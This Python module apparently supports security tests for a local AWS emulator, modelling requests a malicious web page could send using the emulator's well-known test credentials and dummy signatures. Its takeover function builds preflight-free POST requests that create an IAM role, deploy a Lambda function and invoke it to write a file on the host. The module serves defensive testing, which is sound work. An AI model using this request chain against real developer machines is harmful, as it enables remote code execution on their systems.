"""What a malicious web page sends to the emulator: requests with the emulator's well-known credentials."""

import base64
import io
import json
import zipfile
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

_DAY, _TIME = "%Y%m%d", "%Y%m%dT%H%M%SZ"


@dataclass(frozen=True)
class Request:
    """A POST request that needs no preflight if its content type is text/plain."""

    target: str
    body: str = "{}"


def scope(service: str) -> str:
    """Return the root user's credential for a service."""
    return f"test/{datetime.now(UTC):{_DAY}}/us-east-1/{service}/aws4_request"


def signature(service: str) -> str:
    """Return an Authorization header with a made-up signature."""
    return f"AWS4-HMAC-SHA256 Credential={scope(service)}, SignedHeaders=host, Signature=0"


def presigned(service: str, **parameters: str) -> str:
    """Return a query with a made-up signature."""
    signed = {
        "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
        "X-Amz-Credential": scope(service),
        "X-Amz-Date": f"{datetime.now(UTC):{_TIME}}",
        "X-Amz-Expires": "604800",
        "X-Amz-SignedHeaders": "host",
        "X-Amz-Signature": "0",
    }
    return urlencode({**parameters, **signed})


def takeover(name: str, file: Path) -> list[Request]:
    """Return requests that create a role and a Lambda function, and let the function write a file.

    Parameters
    ----------
    name : str
        The name of the role and of the function.
    file : Path
        The file, which the emulator's process may write.
    """
    package = io.BytesIO()
    with zipfile.ZipFile(package, "w") as archive:
        archive.writestr("app.py", f"def handler(event, context): open({str(file)!r}, 'w').close()\n")
    function = {
        "FunctionName": name,
        "Runtime": "python3.13",
        "Handler": "app.handler",
        "Role": f"arn:aws:iam::000000000000:role/{name}",
        "Code": {"ZipFile": base64.b64encode(package.getvalue()).decode()},
    }
    role = {"Action": "CreateRole", "Version": "2010-05-08", "RoleName": name, "AssumeRolePolicyDocument": "{}"}
    return [
        Request(f"/?{presigned('iam', **role)}"),
        Request(f"/2015-03-31/functions?{presigned('lambda')}", json.dumps(function)),
        Request(f"/2015-03-31/functions/{name}/invocations?{presigned('lambda')}"),
    ]


def websocket_api(gateway: Any) -> str:
    """Deploy an API of WebSockets into the emulator; return its path."""
    api = gateway.create_api(Name="chat", ProtocolType="WEBSOCKET", RouteSelectionExpression="$request.body.action")
    gateway.create_stage(ApiId=api["ApiId"], StageName="v1")
    return f"/_aws/execute-api/{api['ApiId']}/v1"
